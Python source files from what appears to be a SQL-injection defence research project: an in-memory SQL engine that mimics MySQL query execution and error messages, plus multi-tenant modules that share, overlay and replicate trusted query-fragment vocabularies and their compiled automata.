                    Column("column_name", ColumnType.TEXT),
                    Column("ordinal_position", ColumnType.INTEGER),
                    Column("data_type", ColumnType.TEXT),
                ],
            )
            table = Table(schema)
            for name, stored in sorted(self.tables.items()):
                for position, column in enumerate(stored.schema.columns, start=1):
                    table.insert(
                        {
                            "table_schema": self.name,
                            "table_name": name,
                            "column_name": column.name,
                            "ordinal_position": position,
                            "data_type": column.type.value,
                        }
                    )
            return table
        raise TableNotFoundError(
            f"Table 'information_schema.{view}' doesn't exist"
        )

    def _next_rand(self) -> float:
        # Park-Miller LCG: deterministic RAND() so runs are reproducible.
        self._rand_state = (self._rand_state * 48271) % 0x7FFFFFFF
        return self._rand_state / 0x7FFFFFFF

    @property
    def current_timestamp(self) -> str:
        self._timestamp_counter += 1
        minutes, seconds = divmod(self._timestamp_counter % 3600, 60)
        return f"2015-06-22 12:{minutes:02d}:{seconds:02d}"

    # ------------------------------------------------------------------
    # Execution entry point
    # ------------------------------------------------------------------

    def execute(self, sql: str) -> QueryResult:
        """Parse and execute one SQL statement.

        Raises a :class:`~repro.database.errors.DatabaseError` subclass on
        any failure (syntax, missing table/column, ...), which the simulated
        applications translate into the error behaviour blind exploits probe.
        """
        self.query_log.append(sql)
        try:
            statement = parse_statement(sql)
        except SqlParseError as exc:
            raise SqlSyntaxError(
                "You have an error in your SQL syntax; check the manual "
                f"near offset {exc.position}"
            ) from exc
        clock = VirtualClock()
        ctx = EvalContext(self, RowScope(), clock)
        if isinstance(statement, (ast.Select, ast.Union)):
            columns, dict_rows = self._select_with_columns(statement, ctx)
            rows = [tuple(r[c] for c in columns) for r in dict_rows]
            return QueryResult(
                columns=columns,
                rows=rows,
                rowcount=len(rows),
                elapsed=clock.elapsed,
            )
        if isinstance(statement, ast.Insert):
            count, last_id = self._execute_insert(statement, ctx)
            return QueryResult(rowcount=count, lastrowid=last_id, elapsed=clock.elapsed)
        if isinstance(statement, ast.Update):
            count = self._execute_update(statement, ctx)
            return QueryResult(rowcount=count, elapsed=clock.elapsed)
        if isinstance(statement, ast.Delete):
            count = self._execute_delete(statement, ctx)
            return QueryResult(rowcount=count, elapsed=clock.elapsed)
        raise DatabaseError(f"unsupported statement {type(statement).__name__}")

    # ------------------------------------------------------------------
    # SELECT / UNION
    # ------------------------------------------------------------------

    def _execute_select(
        self, statement: "ast.Select | ast.Union", outer: EvalContext
    ) -> list[dict[str, object]]:
        """Internal: run a (sub)query and return rows as ordered dicts."""
        __, rows = self._select_with_columns(statement, outer)
        return rows

    def _select_with_columns(
        self, statement: "ast.Select | ast.Union", ctx: EvalContext
    ) -> tuple[list[str], list[dict[str, object]]]:
        if isinstance(statement, ast.Union):
            return self._union(statement, ctx)
        return self._select(statement, ctx)

    def _union(
        self, union: ast.Union, ctx: EvalContext
    ) -> tuple[list[str], list[dict[str, object]]]:
        columns: list[str] | None = None
        combined: list[dict[str, object]] = []
        seen: set[tuple] = set()
        for select in union.selects:
            cols, rows = self._select(select, ctx)
            if columns is None:
                columns = cols
            elif len(cols) != len(columns):
                raise ColumnCountMismatchError(
                    "The used SELECT statements have a different number of columns"
                )
            for row in rows:
                aligned = dict(zip(columns, row.values()))
                if union.all:
                    combined.append(aligned)
                else:
                    key = tuple(aligned.values())
                    if key not in seen:
                        seen.add(key)
                        combined.append(aligned)
        assert columns is not None
        combined = self._order_rows(combined, union.order_by, ctx)
        combined = self._apply_limit(combined, union.limit, union.offset, ctx)
        return columns, combined

    def _select(
        self, select: ast.Select, ctx: EvalContext
    ) -> tuple[list[str], list[dict[str, object]]]:
        scopes = self._from_clause(select, ctx)
        if select.where is not None:
            scopes = [
                s
                for s in scopes
                if sql_truth(self._eval_in(select.where, s, ctx)) is True
            ]
        wants_aggregate = select.group_by or any(
            _contains_aggregate(item.expr) for item in select.items
        ) or (select.having is not None and _contains_aggregate(select.having))
        if wants_aggregate:
            rows = self._aggregate_select(select, scopes, ctx)
            if select.distinct:
                rows = self._distinct_rows(rows)
            rows = self._order_rows(rows, select.order_by, ctx)
        else:
            pairs: list[tuple[RowScope, dict[str, object]]] = [
                (scope, self._project(select.items, scope, ctx, group=None))
                for scope in scopes
            ]
            if select.distinct:
                unique_pairs: list[tuple[RowScope, dict[str, object]]] = []
                seen: set[tuple] = set()
                for scope, row in pairs:
                    key = tuple(row.values())
                    if key not in seen:
                        seen.add(key)
                        unique_pairs.append((scope, row))
                pairs = unique_pairs
            pairs = self._order_pairs(pairs, select.order_by, ctx)
            rows = [row for __, row in pairs]
        rows = self._apply_limit(rows, select.limit, select.offset, ctx)
        columns = list(rows[0].keys()) if rows else self._projection_names(select, ctx)
        return columns, rows

    def _projection_names(self, select: ast.Select, ctx: EvalContext) -> list[str]:
        names: list[str] = []
        for idx, item in enumerate(select.items):
            if isinstance(item.expr, ast.Star):
                if select.table is not None and select.table.name:
                    try:
                        table = self.table(select.table.name)
                        names.extend(table.schema.column_names)
                        continue
                    except TableNotFoundError:
                        pass
                names.append("*")
                continue
            names.append(_item_name(item, idx))
        return names

    def _from_clause(self, select: ast.Select, ctx: EvalContext) -> list[RowScope]:
        if select.table is None:
            return [RowScope(sources=[], parent=ctx.scope)]
        sources = [self._resolve_source(select.table, ctx)]
        scopes: list[list[tuple[str | None, dict[str, object]]]] = [
            [(sources[0][0], row)] for row in sources[0][1]
        ]
        for join in select.joins:
            alias, rows, null_row = self._resolve_source_with_null(join.table, ctx)
            new_scopes: list[list[tuple[str | None, dict[str, object]]]] = []
            if join.kind in ("inner", "cross"):
                for combo in scopes:
                    for row in rows:
                        candidate = combo + [(alias, row)]
                        if join.condition is None or sql_truth(
                            self._eval_in(
                                join.condition,
                                RowScope(candidate, parent=ctx.scope),
                                ctx,
                            )
                        ) is True:
                            new_scopes.append(candidate)
            elif join.kind == "left":
                for combo in scopes:
                    matched = False
                    for row in rows:
                        candidate = combo + [(alias, row)]
                        if join.condition is None or sql_truth(
                            self._eval_in(
                                join.condition,
                                RowScope(candidate, parent=ctx.scope),
                                ctx,
                            )
                        ) is True:
                            new_scopes.append(candidate)
                            matched = True
                    if not matched:
                        new_scopes.append(combo + [(alias, dict(null_row))])
            elif join.kind == "right":
                for row in rows:
                    matched = False
                    for combo in scopes:
                        candidate = combo + [(alias, row)]
                        if join.condition is None or sql_truth(
                            self._eval_in(
                                join.condition,
                                RowScope(candidate, parent=ctx.scope),
                                ctx,
                            )
                        ) is True:
                            new_scopes.append(candidate)
                            matched = True
                    if not matched and scopes:
                        null_left = [
                            (a, {k: None for k in r})
                            for a, r in scopes[0]
                        ]
                        new_scopes.append(null_left + [(alias, row)])
            else:  # pragma: no cover - parser restricts kinds
                raise DatabaseError(f"unsupported join kind {join.kind!r}")
            scopes = new_scopes
        return [RowScope(combo, parent=ctx.scope) for combo in scopes]

    def _resolve_source(
        self, ref: ast.TableRef, ctx: EvalContext
    ) -> tuple[str | None, list[dict[str, object]]]:
        alias, rows, __ = self._resolve_source_with_null(ref, ctx)
        return alias, rows

    def _resolve_source_with_null(
        self, ref: ast.TableRef, ctx: EvalContext
    ) -> tuple[str | None, list[dict[str, object]], dict[str, object]]:
        if ref.subquery is not None:
            rows = self._execute_select(ref.subquery, ctx)
            null_row = {k: None for k in (rows[0] if rows else {})}
            return ref.alias, [dict(r) for r in rows], null_row
        assert ref.name is not None
        table = self.table(ref.name)
        alias = ref.alias or ref.name
        null_row = {c: None for c in table.schema.column_names}
        return alias, [dict(r) for r in table.rows], null_row

    def _eval_in(self, expr: ast.Expr, scope: RowScope, ctx: EvalContext) -> object:
        return Evaluator(EvalContext(self, scope, ctx.clock)).eval(expr)

    def _project(
        self,
        items: tuple[ast.SelectItem, ...],
        scope: RowScope,
        ctx: EvalContext,
        group: list[RowScope] | None,
    ) -> dict[str, object]:
        out: dict[str, object] = {}
        for idx, item in enumerate(items):
            if isinstance(item.expr, ast.Star):
                for name, value in scope.all_columns(item.expr.table):
                    out[name] = value
                continue
            evaluator = Evaluator(EvalContext(self, scope, ctx.clock, group=group))
            value = evaluator.eval(item.expr)
            name = _item_name(item, idx)
            if name in out:
                name = f"{name}_{idx}"
            out[name] = value
        return out

    def _aggregate_select(
        self, select: ast.Select, scopes: list[RowScope], ctx: EvalContext
    ) -> list[dict[str, object]]:
        groups: dict[tuple, list[RowScope]] = {}
        if select.group_by:
            for scope in scopes:
                key = tuple(
                    self._eval_in(g, scope, ctx) for g in select.group_by
                )
                groups.setdefault(key, []).append(scope)
        else:
            groups[()] = scopes
        rows: list[dict[str, object]] = []
        for __, members in groups.items():
            representative = members[0] if members else RowScope(parent=ctx.scope)
            if select.having is not None:
                evaluator = Evaluator(
                    EvalContext(self, representative, ctx.clock, group=members)
                )
                if sql_truth(evaluator.eval(select.having)) is not True:
                    continue
            rows.append(self._project(select.items, representative, ctx, group=members))
        return rows

    @staticmethod
    def _distinct_rows(rows: list[dict[str, object]]) -> list[dict[str, object]]:
        unique: list[dict[str, object]] = []
        seen: set[tuple] = set()
        for row in rows:
            key = tuple(row.values())
            if key not in seen:
                seen.add(key)
                unique.append(row)
        return unique

    @staticmethod
    def _comparable(value: object) -> tuple:
        # Sort NULLs first (MySQL), keep mixed types comparable.
        if value is None:
            return (0, 0, "")
        if isinstance(value, (int, float)):
            return (1, value, "")
        return (2, 0, str(value).lower())

    def _sort_key_value(
        self,
        row: dict[str, object],
        item: ast.OrderItem,
        ctx: EvalContext,
        scope: RowScope | None = None,
    ) -> object:
        """Resolve an ORDER BY key against the projection, with fallback to
        the originating row scope (covers ordering by non-projected columns,
        e.g. ``SELECT name FROM t ORDER BY t.id``)."""
        expr = item.expr
        columns = list(row.keys())
        if isinstance(expr, ast.Literal) and isinstance(expr.value, int):
            index = expr.value - 1
            if 0 <= index < len(columns):
                return row[columns[index]]
            raise ColumnCountMismatchError(
                f"Unknown column '{expr.value}' in 'order clause'"
            )
        if isinstance(expr, ast.ColumnRef) and expr.table is None:
            for name in row:
                if name.lower() == expr.name.lower():
                    return row[name]
        if scope is not None:
            return self._eval_in(expr, scope, ctx)
        fallback = RowScope([(None, row)], parent=ctx.scope)
        return self._eval_in(expr, fallback, ctx)

    def _order_pairs(
        self,
        pairs: list[tuple[RowScope, dict[str, object]]],
        order_by: tuple[ast.OrderItem, ...],
        ctx: EvalContext,
    ) -> list[tuple[RowScope, dict[str, object]]]:
        if not order_by or not pairs:
            return pairs
        ordered = list(pairs)
        for item in reversed(order_by):
            ordered.sort(
                key=lambda pair, it=item: self._comparable(
                    self._sort_key_value(pair[1], it, ctx, scope=pair[0])
                ),
                reverse=item.descending,
            )
        return ordered

    def _order_rows(
        self,
        rows: list[dict[str, object]],
        order_by: tuple[ast.OrderItem, ...],
        ctx: EvalContext,
    ) -> list[dict[str, object]]:
        if not order_by or not rows:
            return rows
        ordered = list(rows)
        for item in reversed(order_by):
            ordered.sort(
                key=lambda r, it=item: self._comparable(
                    self._sort_key_value(r, it, ctx)
                ),
                reverse=item.descending,
            )
        return ordered

    def _apply_limit(
        self,
        rows: list[dict[str, object]],
        limit: ast.Expr | None,
        offset: ast.Expr | None,
        ctx: EvalContext,
    ) -> list[dict[str, object]]:
        if limit is None and offset is None:
            return rows
        start = 0
        if offset is not None:
            start = max(int(self._scalar_of(offset, ctx)), 0)
        if limit is None:
            return rows[start:]
        count = max(int(self._scalar_of(limit, ctx)), 0)
        return rows[start : start + count]

    def _scalar_of(self, expr: ast.Expr, ctx: EvalContext) -> float:
        value = self._eval_in(expr, RowScope(parent=ctx.scope), ctx)
        if value is None:
            return 0
        try:
            return float(value)  # type: ignore[arg-type]
        except (TypeError, ValueError):
            return 0

    # ------------------------------------------------------------------
    # DML
    # ------------------------------------------------------------------

    def _insert_row(self, table, values: dict, replace: bool) -> tuple[int, int]:
        """Insert one row; REPLACE semantics delete conflicting rows first.

        Returns (rows_affected, lastrowid).  MySQL counts a REPLACE that
        displaced an existing row as 2 affected rows.
        """
        if not replace:
            return 1, table.insert(values)
        displaced = table.delete_conflicting(values)
        return 1 + displaced, table.insert(values)

    def _execute_insert(self, insert: ast.Insert, ctx: EvalContext) -> tuple[int, int]:
        table = self.table(insert.table)
        last_id = 0
        count = 0
        if insert.select is not None:
            columns = list(insert.columns) or table.schema.column_names
            __, rows = self._select_with_columns(insert.select, ctx)
            for row in rows:
                values = list(row.values())
                if len(values) != len(columns):
                    raise ColumnCountMismatchError(
                        "Column count doesn't match value count"
                    )
                affected, last_id = self._insert_row(
                    table, dict(zip(columns, values)), insert.replace
                )
                count += affected
            return count, last_id
        columns = list(insert.columns) or table.schema.column_names
        for row_exprs in insert.rows:
            if len(row_exprs) != len(columns):
                raise ColumnCountMismatchError(
                    f"Column count doesn't match value count at row {count + 1}"
                )
            values = [
                self._eval_in(e, RowScope(parent=ctx.scope), ctx) for e in row_exprs
            ]
            affected, last_id = self._insert_row(
                table, dict(zip(columns, values)), insert.replace
            )
            count += affected
        return count, last_id

    def _execute_update(self, update: ast.Update, ctx: EvalContext) -> int:
        table = self.table(update.table)
        alias = update.table
        changed = 0
        budget = None
        if update.limit is not None:
            budget = max(int(self._scalar_of(update.limit, ctx)), 0)
        for row in table.rows:
            scope = RowScope([(alias, row)], parent=ctx.scope)
            if update.where is not None and sql_truth(
                self._eval_in(update.where, scope, ctx)
            ) is not True:
                continue
            changes = {
                col: self._eval_in(expr, scope, ctx)
                for col, expr in update.assignments
            }
            table.update_row(row, changes)
            changed += 1
            if budget is not None and changed >= budget:
                break
        return changed

    def _execute_delete(self, delete: ast.Delete, ctx: EvalContext) -> int:
        table = self.table(delete.table)
        alias = delete.table
        doomed: list[dict[str, object]] = []
        budget = None
        if delete.limit is not None:
            budget = max(int(self._scalar_of(delete.limit, ctx)), 0)
        for row in table.rows:
            scope = RowScope([(alias, row)], parent=ctx.scope)
            if delete.where is not None and sql_truth(
                self._eval_in(delete.where, scope, ctx)
            ) is not True:
                continue
            doomed.append(row)
            if budget is not None and len(doomed) >= budget:
                break
        return table.delete_rows(doomed)
