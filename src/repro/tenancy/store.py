"""TenantStore: a FragmentStore composed of shared base + private overlay.

Drop-in for :class:`~repro.pti.fragments.FragmentStore` everywhere the
engine, daemon, pool and analyzers accept one -- same copy-on-write state
protocol, same epoch semantics, same lock-free readers -- but the state
it publishes *shares* the dominant structures with every sibling tenant:

- the fragment tuple is ``base.fragments + overlay`` (base ids
  ``0..B-1``, overlay ids offset by ``B``), so base *strings* and the
  base prefix layout are shared;
- the inverted index is a two-level view (:class:`_ComposedIndex`) over
  the shared base index plus a tiny overlay index -- base index
  positions are valid composed positions by construction;
- the compiled matcher is a
  :class:`~repro.pti.automaton.CompositeAutomaton` pairing the base
  automaton (compiled once per fleet) with the tenant's overlay
  automaton, injected through the state's
  :class:`~repro.pti.fragments.AutomatonCell` factory.

Per-tenant marginal memory is therefore O(overlay) plus one pointer
tuple, instead of a full copy of strings + index + automaton.

Mutations that cannot preserve the shared prefix -- removing a *base*
fragment, or a full :meth:`reload` that drops base fragments -- detach
the tenant: it degrades to a private, self-contained state (plain index,
plain automaton; strings still interner-shared).  Rare administrative
actions cost memory, never correctness.
"""

from __future__ import annotations

import threading
from typing import Iterable

from ..pti.automaton import CompositeAutomaton, FragmentAutomaton
from ..pti.fragments import AutomatonCell, FragmentStore, _build_index, _StoreState
from .interning import SharedBase

__all__ = ["TenantStore"]


class _ComposedSeen:
    """Membership view over base seen-set plus overlay seen-set."""

    __slots__ = ("base", "overlay")

    def __init__(self, base: frozenset, overlay: frozenset) -> None:
        self.base = base
        self.overlay = overlay

    def __contains__(self, fragment: object) -> bool:
        return fragment in self.base or fragment in self.overlay

    def __len__(self) -> int:
        return len(self.base) + len(self.overlay)

    def __iter__(self):
        yield from self.base
        yield from self.overlay


class _ComposedIndex:
    """Inverted-index view: shared base buckets + offset overlay buckets.

    Quacks like the plain dict index where readers consume it
    (``state.index.get(key, ())`` in
    :meth:`FragmentStore.iter_candidates`); both levels hold positions
    into the *composed* fragment tuple, the base level natively (its
    positions are ``0..B-1``) and the overlay level pre-offset at build
    time.
    """

    __slots__ = ("base", "overlay")

    def __init__(self, base: dict, overlay: dict) -> None:
        self.base = base
        self.overlay = overlay

    def get(self, key: str, default=()):
        base_hit = self.base.get(key)
        overlay_hit = self.overlay.get(key)
        if overlay_hit is None:
            return base_hit if base_hit is not None else default
        if base_hit is None:
            return overlay_hit
        return base_hit + overlay_hit

    def __contains__(self, key: str) -> bool:
        return key in self.base or key in self.overlay

    def __len__(self) -> int:
        extra = sum(1 for key in self.overlay if key not in self.base)
        return len(self.base) + extra


class TenantStore(FragmentStore):
    """One tenant's fragment vocabulary over a shared base (interned)."""

    def __init__(
        self,
        base: SharedBase,
        overlay: Iterable[str] = (),
        *,
        tenant_id: str = "",
    ) -> None:
        self.tenant_id = tenant_id
        self._base = base
        self._overlay: tuple[str, ...] = ()
        self._private = False
        # Intentionally NOT calling super().__init__: the initial state
        # must already be composed (base-backed), and add_many below runs
        # the tenant-aware path.
        self._mutation_lock = threading.RLock()
        self._state = self._compose((), 0)
        if overlay:
            self.add_many(overlay)

    # ------------------------------------------------------------------
    # Composition
    # ------------------------------------------------------------------

    def _compose(self, overlay: tuple[str, ...], epoch: int) -> _StoreState:
        base = self._base
        overlay_index = {
            key: tuple(pos + len(base.fragments) for pos in positions)
            for key, positions in _build_index(overlay).items()
        }
        return _StoreState(
            base.fragments + overlay,
            _ComposedSeen(base.seen, frozenset(overlay)),
            _ComposedIndex(base.index, overlay_index),
            epoch,
            AutomatonCell(factory=self._composite_factory),
        )

    def _composite_factory(self, state: _StoreState) -> CompositeAutomaton:
        base_automaton = self._base.automaton()
        overlay = state.fragments[len(self._base.fragments) :]
        return CompositeAutomaton(
            base_automaton,
            FragmentAutomaton(overlay),
            state.fragments,
            epoch=state.epoch,
        )

    def _automaton_cell(self) -> AutomatonCell:
        # Hook used by inherited mutations (the detached/private path):
        # a private state compiles its own full automaton.
        return AutomatonCell()

    def _detach(self, fragments: Iterable[str], epoch: int) -> _StoreState:
        """Build a private (non-interned) successor state."""
        seen: set[str] = set()
        kept: list[str] = []
        for fragment in fragments:
            if fragment and fragment not in seen:
                seen.add(fragment)
                kept.append(fragment)
        self._private = True
        self._overlay = ()
        new_fragments = tuple(kept)
        return _StoreState(
            new_fragments,
            frozenset(seen),
            _build_index(new_fragments),
            epoch,
            AutomatonCell(),
        )

    # ------------------------------------------------------------------
    # Mutations (tenant-aware copy-on-write)
    # ------------------------------------------------------------------

    def add_many(self, fragments: Iterable[str]) -> None:
        with self._mutation_lock:
            if self._private:
                super().add_many(fragments)
                return
            state = self._state
            seen = state.seen
            batch: set[str] = set()
            added: list[str] = []
            for fragment in fragments:
                if not fragment or fragment in seen or fragment in batch:
                    continue
                batch.add(fragment)
                added.append(fragment)
            if not added:
                return
            self._overlay = self._overlay + tuple(added)
            self._state = self._compose(self._overlay, state.epoch + len(added))

    def remove(self, fragment: str) -> bool:
        with self._mutation_lock:
            if self._private:
                return super().remove(fragment)
            state = self._state
            if fragment in frozenset(self._overlay):
                self._overlay = tuple(f for f in self._overlay if f != fragment)
                self._state = self._compose(self._overlay, state.epoch + 1)
                return True
            if fragment in self._base.seen:
                # Revoking a *shared* fragment cannot be expressed as an
                # overlay; the tenant detaches to a private vocabulary.
                self._state = self._detach(
                    (f for f in state.fragments if f != fragment),
                    state.epoch + 1,
                )
                return True
            return False

    def reload(self, fragments: Iterable[str], *, warm: bool = False) -> None:
        with self._mutation_lock:
            if self._private:
                super().reload(fragments, warm=warm)
                return
            kept = [f for f in fragments if f]
            base_seen = self._base.seen
            if base_seen.issubset(kept):
                # The new vocabulary keeps the whole base: stay interned,
                # the delta becomes the overlay.
                self.reload_overlay(
                    (f for f in kept if f not in base_seen), warm=warm
                )
                return
            new_state = self._detach(kept, self._state.epoch + 1)
            if warm:
                new_state.automaton.get_or_build(new_state)
            self._state = new_state

    def reload_overlay(
        self, overlay: Iterable[str], *, warm: bool = True
    ) -> None:
        """Replace this tenant's plugin delta (the tenancy-native reload).

        With ``warm=True`` (the default -- reloads are the storm case)
        the successor composite automaton is compiled before the swap:
        readers keep draining on the old epoch for the entire build, and
        the first post-swap inspect finds a ready matcher.  Only the
        tenant's *overlay* automaton is actually compiled; the base part
        is the fleet-shared instance.
        """
        with self._mutation_lock:
            if self._private:
                raise RuntimeError(
                    f"tenant {self.tenant_id!r} is detached from its base; "
                    "use reload() with the full vocabulary"
                )
            state = self._state
            base_seen = self._base.seen
            seen: set[str] = set()
            kept: list[str] = []
            for fragment in overlay:
                if not fragment or fragment in base_seen or fragment in seen:
                    continue
                seen.add(fragment)
                kept.append(fragment)
            self._overlay = tuple(kept)
            new_state = self._compose(self._overlay, state.epoch + 1)
            if warm:
                new_state.automaton.get_or_build(new_state)
            self._state = new_state

    # ------------------------------------------------------------------
    # Observability
    # ------------------------------------------------------------------

    @property
    def base(self) -> SharedBase:
        return self._base

    @property
    def private(self) -> bool:
        """True once this tenant detached from its shared base."""
        return self._private

    @property
    def overlay(self) -> tuple[str, ...]:
        """The tenant's private delta (empty once detached)."""
        return self._overlay

    def tenancy_stats(self) -> dict[str, object]:
        """Interning effectiveness of this tenant's current state."""
        state = self._state
        if self._private:
            return {
                "tenant": self.tenant_id,
                "base": self._base.name,
                "private": True,
                "epoch": state.epoch,
                "fragments": len(state.fragments),
                "interned_fragments": 0,
                "private_fragments": len(state.fragments),
            }
        overlay = len(state.fragments) - len(self._base.fragments)
        return {
            "tenant": self.tenant_id,
            "base": self._base.name,
            "private": False,
            "epoch": state.epoch,
            "fragments": len(state.fragments),
            "interned_fragments": len(self._base.fragments),
            "private_fragments": overlay,
        }
