"""Cross-tenant fragment interning: shared strings, shared compiled state.

Two levels of sharing, both exact (never lossy):

- :class:`FragmentInterner` canonicalises fragment *strings*: every
  tenant's ``" OR status = "`` is the same Python object, so even
  tenants with disjoint base sets share the bytes of their common
  fragments.
- :class:`SharedBase` canonicalises whole *vocabulary prefixes*: the
  fragment tuple, membership set, inverted index and compiled
  Aho-Corasick automaton of a base set exist once per fleet, referenced
  by every :class:`~repro.tenancy.store.TenantStore` built on it.  The
  automaton -- the dominant per-tenant memory and compile cost at paper
  scale -- is compiled lazily, once, the first time any tenant needs it.
"""

from __future__ import annotations

import threading
from typing import Iterable

from ..pti.automaton import FragmentAutomaton
from ..pti.fragments import _build_index

__all__ = ["FragmentInterner", "SharedBase"]


class FragmentInterner:
    """Process-wide canonical pool of fragment strings.

    ``sys.intern`` is wrong for this job: it interns forever (fragments
    outlive their tenants) and only handles lookup-friendly strings.  A
    plain dict keyed by value gives the same object-identity guarantee
    with an inspectable size.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._pool: dict[str, str] = {}

    def intern(self, fragment: str) -> str:
        """The canonical object equal to ``fragment``."""
        with self._lock:
            return self._pool.setdefault(fragment, fragment)

    def intern_many(self, fragments: Iterable[str]) -> list[str]:
        """Canonicalise a batch under one lock acquisition."""
        pool = self._pool
        with self._lock:
            return [pool.setdefault(f, f) for f in fragments]

    def stats(self) -> dict[str, int]:
        with self._lock:
            return {
                "unique_fragments": len(self._pool),
                "unique_characters": sum(len(f) for f in self._pool),
            }


class SharedBase:
    """One immutable base vocabulary shared by many tenants.

    Holds exactly the derived state a :class:`~repro.pti.fragments
    .FragmentStore` would build per tenant -- fragment tuple, membership
    frozenset, inverted index, compiled automaton -- computed once and
    referenced everywhere.  Immutable by design: changing a fleet's base
    set is a new :class:`SharedBase` (the registry re-bases tenants onto
    it), never an in-place edit that would tear concurrent readers.
    """

    __slots__ = ("name", "fragments", "seen", "index", "_lock", "_automaton")

    def __init__(self, name: str, fragments: Iterable[str]) -> None:
        seen: set[str] = set()
        unique: list[str] = []
        for fragment in fragments:
            if fragment and fragment not in seen:
                seen.add(fragment)
                unique.append(fragment)
        self.name = name
        self.fragments: tuple[str, ...] = tuple(unique)
        self.seen = frozenset(seen)
        self.index = _build_index(self.fragments)
        self._lock = threading.Lock()
        self._automaton: FragmentAutomaton | None = None

    def __len__(self) -> int:
        return len(self.fragments)

    def automaton(self) -> FragmentAutomaton:
        """The base automaton; compiled on first use, once per fleet."""
        automaton = self._automaton
        if automaton is not None:
            return automaton
        with self._lock:
            if self._automaton is None:
                # Epoch 0: the base is immutable, so its automaton can
                # never go stale; per-tenant staleness is carried by the
                # composite's epoch, not the base's.
                self._automaton = FragmentAutomaton(self.fragments, epoch=0)
            return self._automaton

    def stats(self) -> dict[str, object]:
        automaton = self._automaton
        return {
            "name": self.name,
            "fragments": len(self.fragments),
            "characters": sum(len(f) for f in self.fragments),
            "indexed_tokens": len(self.index),
            "automaton_compiled": automaton is not None,
            "automaton_nodes": automaton.node_count if automaton else 0,
        }
