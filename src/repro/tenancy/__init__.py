"""Multi-tenant fragment state: interning, overlays, snapshot replication.

The paper deploys one PTI daemon per application; the ROADMAP north star
is a fleet.  At fleet scale the fragment vocabulary grows a *tenant*
dimension -- each tenant (site, application instance) trusts its own
fragment set -- with two structural facts this package exploits
(DESIGN.md section 13):

1. **Tenants overwhelmingly share their vocabulary.**  A WordPress fleet
   runs byte-identical core code on every site; only the plugin delta
   differs.  :class:`SharedBase` stores (and compiles) the common base
   exactly once -- one fragment tuple, one inverted index, one
   Aho-Corasick automaton -- and every :class:`TenantStore` composes it
   with a small per-tenant overlay.  Memory and compile time per tenant
   shrink from O(vocabulary) to O(plugin delta).

2. **Reloads must not stall serving.**  A tenant's fragment reload (plugin
   update) builds the successor state *and its automaton* off-path, swaps
   atomically, and pushes one packed snapshot frame
   (:func:`repro.pti.wire.pack_store_snapshot`, serialized once per
   epoch) to every replication target -- daemon-pool children hot-swap in
   place, no respawn.  In-flight inspects drain on the old epoch; the
   checkout hot path stays a single integer generation compare.

:class:`TenantRegistry` is the control plane tying both together: it owns
the interner, the shared bases, the tenant stores, the per-epoch frame
cache and the push subscriptions, and reports the fleet state
(``tenancy_report``) that the engine and gateway surface.
"""

from .interning import FragmentInterner, SharedBase
from .registry import DEFAULT_BASE, TenantRegistry
from .store import TenantStore

__all__ = [
    "DEFAULT_BASE",
    "FragmentInterner",
    "SharedBase",
    "TenantRegistry",
    "TenantStore",
]
