"""TenantRegistry: the fleet control plane for fragment state.

Maps tenant-id -> versioned :class:`~repro.tenancy.store.TenantStore`
built over named :class:`~repro.tenancy.interning.SharedBase` sets, and
owns the replication machinery around them (DESIGN.md section 13):

- **one-shot serialisation**: each tenant's current ``_StoreState``
  snapshot is packed into a wire frame at most once per epoch
  (:meth:`snapshot_frame`); every push of that epoch -- to N daemon-pool
  children, M gateway workers -- reuses the cached bytes.
- **push on epoch bump**: :meth:`reload_tenant` performs the warm
  handoff (successor state + composite automaton compiled off-path,
  atomic swap), then pushes the new frame to every subscriber.
  Replication targets therefore converge without any per-checkout
  probing; a target that was busy applies at its release point.
- **drain accounting**: an epoch is *drained* once the swap happened and
  every subscriber push completed -- no replication target will start
  new work under the old epoch (in-flight requests finish on it by
  design; that is the epoch protocol, not a leak).

Subscribers are callables ``(tenant_id, store, frame) -> None``; a
raising subscriber is counted, never propagated -- replication is
best-effort delivery over components that already fail closed on
staleness (generation compare at checkout).

Durability (DESIGN.md section 15): construct with a
:class:`~repro.persist.FleetPersistence` and every control-plane
mutation is made durable *before* it is published -- base definitions
as atomic checkpoints, tenant overlays through per-tenant write-ahead
journals -- so :meth:`TenantRegistry.recover` rebuilds the whole fleet
topology after a crash.  A persistence failure refuses the mutation
(fail-closed) rather than letting disk lag memory.
"""

from __future__ import annotations

import threading
from typing import Callable, Iterable

from ..pti import wire
from .interning import FragmentInterner, SharedBase
from .store import TenantStore

__all__ = ["DEFAULT_BASE", "TenantRegistry"]

#: Base-set name used when a registry is built from one fragment list.
DEFAULT_BASE = "shared"


class TenantRegistry:
    """Tenant-id -> versioned fragment store, with interning + replication."""

    def __init__(
        self,
        base_fragments: Iterable[str] = (),
        *,
        interner: FragmentInterner | None = None,
        persistence=None,
    ) -> None:
        self.interner = interner or FragmentInterner()
        #: Optional :class:`~repro.persist.FleetPersistence`; when set,
        #: every topology mutation is journaled/checkpointed before the
        #: in-memory publish.
        self.persistence = persistence
        self._lock = threading.RLock()
        self._bases: dict[str, SharedBase] = {}
        self._tenants: dict[str, TenantStore] = {}
        #: tenant-id -> (epoch, packed frame) -- the one-shot
        #: serialisation cache.
        self._frames: dict[str, tuple[int, bytes]] = {}
        self._subscribers: list[Callable[[str, TenantStore, bytes], None]] = []
        # Fleet counters (tenancy_report / resilience_report section).
        self.snapshot_pushes = 0
        self.push_failures = 0
        self.handoff_swaps = 0
        self.drained_epochs = 0
        base_fragments = tuple(base_fragments)
        if base_fragments:
            self.define_base(DEFAULT_BASE, base_fragments)

    @classmethod
    def recover(
        cls,
        persistence,
        *,
        interner: FragmentInterner | None = None,
        base: str = DEFAULT_BASE,
    ) -> "TenantRegistry":
        """Rebuild a registry from a :class:`~repro.persist.FleetPersistence`.

        Recovers every persisted base checkpoint and every per-tenant
        journal (fail-closed: a corrupt tenant journal raises
        :class:`~repro.persist.JournalCorrupt` and the whole recovery
        refuses).  Recovered tenants are attached to ``base`` -- the
        single-base topology the gateway deploys; multi-base layouts
        re-pin tenants from application config after recovery.
        """
        registry = cls(interner=interner)
        bases = persistence.recover_bases()
        for name, fragments in bases.items():
            registry.define_base(name, fragments)
        if base not in registry._bases:
            registry.define_base(base, ())
        overlays = persistence.recover_overlays()
        for tenant_id, overlay in overlays.items():
            registry.add_tenant(tenant_id, overlay, base=base)
        # Attach persistence only after replaying topology: recovery must
        # not re-journal the records it was rebuilt from.  Then reopen the
        # per-tenant durable states (persisted state wins over any seed)
        # so subsequent reloads journal without a lazy first-touch open.
        registry.persistence = persistence
        for tenant_id in overlays:
            persistence.open_tenant(tenant_id)
